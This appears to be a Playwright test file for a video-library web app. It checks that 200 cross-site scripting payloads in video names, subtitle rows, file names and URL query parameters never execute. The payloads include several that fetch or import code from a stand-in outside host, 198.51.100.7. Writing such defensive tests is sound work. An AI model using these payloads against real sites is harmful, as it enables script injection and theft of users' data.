"""Text of videos, people and models is text in the page, whatever it looks like: 200 strings in 8 fields."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.page.conftest import Served, agentvid, import_rows, opened, serving
from tests.page.looking import ask

#: What runs in a payload: `{0}` is its number.
_RUNS = (
    "window.hostile=({0})",
    "alert({0})",
    "fetch('http://198.51.100.7/{0}')",
    "document.title='hostile {0}'",
    "import('http://198.51.100.7/{0}.js')",
)
_SHAPES = (
    "<script>{0}</script>",
    "</script><script>{0}</script>",
    "<img src=x onerror={0}>",
    '"><img src=x onerror="{0}">',
    "'><svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<iframe src=javascript:{0}>",
    '<iframe srcdoc="<script>parent.{0}</script>">',
    "<body onload={0}>",
    "<video><source onerror={0}></video>",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<a href=javascript:{0}>click</a>",
    "javascript:{0}",
    "data:text/html,<script>{0}</script>",
    "<style>@import 'http://198.51.100.7/x.css';</style>{0}",
    "<link rel=stylesheet href=http://198.51.100.7/x.css>{0}",
    "<meta http-equiv=refresh content='0;url=http://198.51.100.7/'>{0}",
    "<base href=http://198.51.100.7/>{0}",
    "<object data=http://198.51.100.7/x>{0}</object>",
    "<math><mtext></p><img src=x onerror={0}></math>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<template><script>{0}</script></template>",
    "<form action=http://198.51.100.7/><button>{0}</button></form>",
    "<div style=background:url(http://198.51.100.7/x)>{0}</div>",
    "${{{0}}} {{{{constructor.constructor('{0}')()}}}}",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "%3Cscript%3E{0}%3C/script%3E",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<ScRiPt\t>{0}</sCrIpT\n>",
    "<!--><img src=x onerror={0}>-->",
    "<![CDATA[<img src=x onerror={0}>]]>",
    "]]><script>{0}</script>",
    "\u202e<script>{0}</script>",
    "<img src='/media/x' onload={0}>",
    "<marquee onstart={0}>x</marquee>",
    "<select onpointerover={0}><option>x</select>",
    "<p id=list></p><p class=problem>{0}</p>",
)
PAYLOADS = [
    shape.format(run.format(number)) for number, (shape, run) in enumerate((s, r) for s in _SHAPES for r in _RUNS)
]
assert len(PAYLOADS) == 200

#: Notes what got through; in place before anything of the page runs.
_TRAP = """
window.breaches = [];
window.alert = (text) => window.breaches.push(`alert ${text}`);
document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) => {
  window.breaches.push(`${violatedDirective} ${blockedURI}`);
});
"""
_LOOK = """() => {
  const found = [...window.breaches];
  if ("hostile" in window) found.push("hostile");
  if (document.title.includes("hostile")) found.push("title");
  const allowed = [...document.scripts].filter((script) => script.getAttribute("src") === "/static/app.js").length;
  if (document.scripts.length !== 1 || allowed !== 1) found.push("script");
  for (const element of document.querySelectorAll("*")) {
    if (/^(IFRAME|OBJECT|EMBED|BASE|MARQUEE|STYLE|TEMPLATE|MATH)$/i.test(element.tagName)) found.push(element.tagName);
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on") || name === "srcdoc") found.push(`${element.tagName} ${name}`);
      if (["href", "src", "action"].includes(name) && !/^(\\/|#|blob:|\\?)/.test(value)) found.push(`${name}=${value}`);
    }
  }
  return found;
}"""


@pytest.fixture
def hostile(rendered: Path, tmp_path: Path) -> Iterator[Served]:
    """A library of 200 imported videos with hostile names and rows, one that holds all rows, and a hostile file."""
    library, folder = tmp_path / "library", tmp_path / "films"
    folder.mkdir()
    row = {"duration": 4.0, "start": 0.0, "end": 4.0}
    rows: list[dict[str, Any]] = []
    for number, payload in enumerate(PAYLOADS):
        rows.append(row | {"video": payload, "track": "speech", "text": f"harbour {payload}"})
        rows.append(row | {"video": payload, "track": "ocr", "text": f"slide {payload}"})
        all_rows = {"video": "all of them", "duration": 1000.0, "start": number * 4.0, "end": number * 4.0 + 4.0}
        rows += [all_rows | {"track": track, "text": payload} for track in ("speech", "ocr", "caption")]
    import_rows(library, rows, tmp_path / "rows.jsonl")
    film = folder / "<img src=x onerror=alert(1)>.mp4"
    shutil.copy(rendered / "bread.mp4", film)
    film.with_suffix(".srt").write_text(
        "".join(f"{n + 1}\n00:00:0{n},000 --> 00:00:0{n},900\n{text}\n\n" for n, text in enumerate(PAYLOADS[:9]))
    )
    agentvid(library, "index", str(folder))
    waiting = folder / "waiting <script>alert(2)<╱script>.mp4"
    shutil.copy(rendered / "bread.mp4", waiting)
    with waiting.open("ab") as file:
        file.write(b"\0")  # another content than the other's
    with serving(library, folder) as server:
        yield server


def test_nothing_of_it_runs(browser: Browser, hostile: Served) -> None:
    with opened(browser, hostile.url, refusals=True, viewport={"width": 1440, "height": 2000}) as page:
        page.add_init_script(_TRAP)
        look_at_names(page)
        look_at_rows(page)
        for batch in (PAYLOADS[at : at + 20] for at in range(0, len(PAYLOADS), 20)):
            look_at_question(page, batch)
        look_at_conversations(page)
        look_at_queries(page)
        look_at_threads(page)


def look_at_names(page: Page) -> None:
    page.goto("/")
    page.locator("li.card").first.wait_for()
    while page.get_by_role("button", name="Show more").is_visible():
        page.get_by_role("button", name="Show more").click()
    expect(page.locator("li.card.video")).to_have_count(len(PAYLOADS) + 2)
    assert PAYLOADS[2] in page.locator("li.card.video .name").all_inner_texts()
    assert page.evaluate(_LOOK) == []
    page.locator("li.card.video a.cover", has_text="<img src=x onerror=alert(1)>.mp4").click()
    expect(page.locator(".watch h1")).to_have_text("<img src=x onerror=alert(1)>.mp4")
    expect(page.locator(".row").first).to_be_visible()
    assert page.evaluate(_LOOK) == []
    page.get_by_role("link", name="Add videos").click()
    expect(page.locator("#list .inbox li")).to_contain_text("waiting <script>")
    assert page.evaluate(_LOOK) == []


def look_at_rows(page: Page) -> None:
    page.get_by_role("link", name="Library", exact=True).click()
    page.get_by_label("Filter by name").fill("all of them")
    page.locator("li.card.video a.cover").click()
    page.get_by_label("Track", exact=True).select_option("all tracks")
    expect(page.locator(".told")).to_have_text(f"{3 * len(PAYLOADS)} rows")
    assert page.locator(".row .text").first.inner_text().endswith(PAYLOADS[0])
    for _ in range(3 * len(PAYLOADS) // 20):
        page.evaluate("document.querySelector('.blocks').scrollBy(0, 800)")
        page.wait_for_timeout(20)
    assert page.evaluate(_LOOK) == []


def look_at_question(page: Page, batch: list[str]) -> None:
    page.keyboard.press("Escape")
    page.keyboard.press("a")
    if not page.get_by_label("Choices, one a line").is_visible():
        page.get_by_role("button", name="Options").click()
    page.get_by_label("Choices, one a line").fill("\n".join(text.replace("\n", " ") for text in batch))
    ask(page, f"What is said of harbour {' '.join(batch[:5])}?")
    assert page.evaluate(_LOOK) == []
    page.get_by_text("Program and trace").click()
    page.locator(".trace .program").first.wait_for()
    assert page.evaluate(_LOOK) == []


def look_at_conversations(page: Page) -> None:
    page.get_by_role("link", name="Conversations").click()
    expect(page.locator("#list .rows a")).to_have_count(10)
    assert page.evaluate(_LOOK) == []
    page.locator("#list .rows a").first.click()
    page.locator(".turn").first.wait_for()
    assert page.evaluate(_LOOK) == []


def look_at_queries(page: Page) -> None:
    """Every string as the query of a link that somebody sent."""
    go_to(page, [f"/?q={{}}&k=5&track={{}}&x={number}" for number in range(len(PAYLOADS))])


def look_at_threads(page: Page) -> None:
    """Every string as the name of a conversation, of a trace and of a video."""
    go_to(page, [f"/?thread={{}}&x={number}" for number in range(len(PAYLOADS))])


def go_to(page: Page, addresses: list[str]) -> None:
    """Walk through links without loading the page anew; each must have been shown before the next."""
    breaches = page.evaluate(
        f"""async ([addresses, payloads]) => {{
          const look = {_LOOK};
          const found = [];
          for (const [number, address] of addresses.entries()) {{
            history.pushState(null, "", address.replaceAll("{{}}", encodeURIComponent(payloads[number])));
            window.dispatchEvent(new PopStateEvent("popstate"));
            const list = document.getElementById("list");
            while (list.hasAttribute("aria-busy")) await new Promise((done) => setTimeout(done, 2));
            found.push(...look());
          }}
          return found;
        }}""",
        [addresses, PAYLOADS],
    )
    assert breaches == []
    expect(page.locator("#list")).to_contain_text("")
